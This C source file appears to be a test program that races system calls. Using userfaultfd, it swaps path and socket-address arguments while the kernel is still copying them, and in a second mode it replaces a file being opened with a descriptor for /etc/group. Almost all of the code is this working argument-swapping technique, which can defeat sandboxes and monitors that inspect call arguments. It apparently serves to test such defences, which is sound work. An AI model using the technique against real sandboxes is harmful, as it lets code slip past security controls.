// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
// Attacks on calls while the kernel works on them.
//
//   races COUNT          overwrites arguments
//   races opens COUNT    replaces the file that is opened
//
// An argument that is overwritten crosses the end of a page, and the next page is registered with userfaultfd. The
// kernel copies the first part of the argument and waits for the page. The handler then overwrites the first part and
// supplies the page. So each try succeeds: the kernel uses the old argument, and user memory has another one when the
// call ends.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define MAX_PAGE 65536

static size_t page;         // its size
static char *pages;         // two pages; the second one is missing until the handler supplies it
static char first_end[256]; // the end of the first page while the kernel waits
static size_t first_size;   // of the part of the argument in the first page
static char second[MAX_PAGE] __attribute__((aligned(MAX_PAGE)));
static int faults;

static void check(int ok, const char *what) {
    if (!ok) {
        printf("%s: %s\n", what, strerror(errno));
        exit(1);
    }
}

static void *handle_faults(void *unused) {
    (void)unused;
    struct uffd_msg message;
    while (read(faults, &message, sizeof message) == sizeof message) {
        memcpy(pages + page - first_size, first_end, first_size);
        struct uffdio_copy copy = {.dst = (unsigned long)(pages + page), .src = (unsigned long)second, .len = page};
        check(ioctl(faults, UFFDIO_COPY, &copy) == 0, "UFFDIO_COPY");
    }
    return 0;
}

// Places an argument, of which `before` bytes are in the first page, and the bytes that replace these. Returns its
// address.
static void *place(const void *argument, size_t size, size_t before, const void *replacement) {
    check(madvise(pages + page, page, MADV_DONTNEED) == 0, "madvise");
    first_size = before;
    memcpy(first_end, replacement, before);
    memcpy(second, (const char *)argument + before, size - before);
    memcpy(pages + page - before, argument, before);
    return pages + page - before;
}

// Places a path, and replaces the first letter of its last component. The kernel copies eight bytes at a time, and
// repeats the copy of those that cross the end of the page.
static char *place_path(const char *path) {
    size_t letter = strrchr(path, '/') + 1 - path;
    char replacement[sizeof first_end];
    strcpy(replacement, path);
    replacement[letter] = 'H';
    return place(path, strlen(path) + 1, (letter + 8) & ~7, replacement);
}

static void create(const char *path) {
    int fd = open(path, O_CREAT | O_WRONLY, 0600);
    check(fd >= 0, path);
    close(fd);
}

#define OTHER_FD 200 // of the file that replaces an opened one

enum { PREPARE, PREPARED, OPENING, REPLACED, END };
static atomic_int step = PREPARED;
static int opened_fd;

// Replaces the file that is being opened. The other file then has one reference, like a new one.
static void *replace_opened(void *unused) {
    for (unsigned seed = 1; step != END; seed = seed * 1103515245 + 12345) {
        if (step == PREPARE) {
            int fd = open("/etc/group", O_RDONLY);
            dup2(fd, OTHER_FD);
            close(fd);
            step = PREPARED;
        } else if (step == OPENING) {
            for (volatile unsigned i = 0; i < (seed >> 16) % 2000; i++)
                ;
            while (dup2(OTHER_FD, opened_fd) < 0 && errno == EBUSY) // until the kernel installs the opened file
                ;
            close(OTHER_FD);
            step = REPLACED;
        }
    }
    return unused;
}

static void await_step(int next) {
    while (step != next)
        ;
}

static void race_opens(int tries) {
    pthread_t thread;
    opened_fd = dup(0);
    close(opened_fd);
    check(pthread_create(&thread, 0, replace_opened, 0) == 0, "pthread_create");
    for (int i = 0; i < tries; i++) {
        step = PREPARE;
        await_step(PREPARED);
        step = OPENING;
        int fd = open("/guest/opening", O_RDONLY);
        check(fd >= 0, "open");
        await_step(REPLACED);
        close(opened_fd);
        if (fd != opened_fd) // the other thread was too early
            close(fd);
    }
    step = END;
    pthread_join(thread, 0);
    printf("all opens succeeded\n");
}

int main(int count, char **arguments) {
    if (count > 2 && !strcmp(arguments[1], "opens")) {
        race_opens(atoi(arguments[2]));
        return 0;
    }
    int tries = count > 1 ? atoi(arguments[1]) : 1;
    char path[64], other[64];
    page = sysconf(_SC_PAGESIZE);
    check(page <= MAX_PAGE, "page size");
    pages = mmap(0, 2 * page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    check(pages != MAP_FAILED, "mmap");
    faults = syscall(SYS_userfaultfd, 0);
    check(faults >= 0, "userfaultfd");
    struct uffdio_api api = {.api = UFFD_API};
    check(ioctl(faults, UFFDIO_API, &api) == 0, "UFFDIO_API");
    struct uffdio_register area = {.range = {(unsigned long)(pages + page), page},
                                   .mode = UFFDIO_REGISTER_MODE_MISSING};
    check(ioctl(faults, UFFDIO_REGISTER, &area) == 0, "UFFDIO_REGISTER");
    pthread_t handler;
    check(pthread_create(&handler, 0, handle_faults, 0) == 0, "pthread_create");
    for (int i = 0; i < tries; i++) {
        snprintf(path, sizeof path, "/guest/race/removed%d", i);
        create(path);
        check(unlink(place_path(path)) == 0 && access(path, F_OK) != 0, "unlink");
        snprintf(other, sizeof other, "/guest/race/renamed%d", i);
        snprintf(path, sizeof path, "/guest/race/source%d", i);
        create(path);
        check(rename(path, place_path(other)) == 0 && access(other, F_OK) == 0, "rename");
        snprintf(path, sizeof path, "/guest/race/linked%d", i);
        check(link(other, place_path(path)) == 0 && access(path, F_OK) == 0, "link");
        snprintf(path, sizeof path, "/guest/race/folder%d", i);
        check(mkdir(place_path(path), 0700) == 0 && access(path, F_OK) == 0, "mkdir");
        check(chmod(place_path(path), 0711) == 0, "chmod");
        check(rmdir(place_path(path)) == 0 && access(path, F_OK) != 0, "rmdir");
        snprintf(path, sizeof path, "/guest/race/symbolic%d", i);
        check(symlink("/etc/passwd", place_path(path)) == 0 && access(path, F_OK) == 0, "symlink");
        struct sockaddr_in target = {
            .sin_family = AF_INET, .sin_port = htons(4445), .sin_addr = {htonl(0x7f000100 + i)}};
        struct sockaddr_in replacement = {
            .sin_family = AF_INET, .sin_port = htons(80), .sin_addr = {htonl(0x7f000001)}};
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        check(connect(fd, place(&target, sizeof target, 8, &replacement), sizeof target) != 0 && errno == ECONNREFUSED,
              "connect");
        close(fd);
    }
    printf("all calls succeeded\n");
    return 0;
}
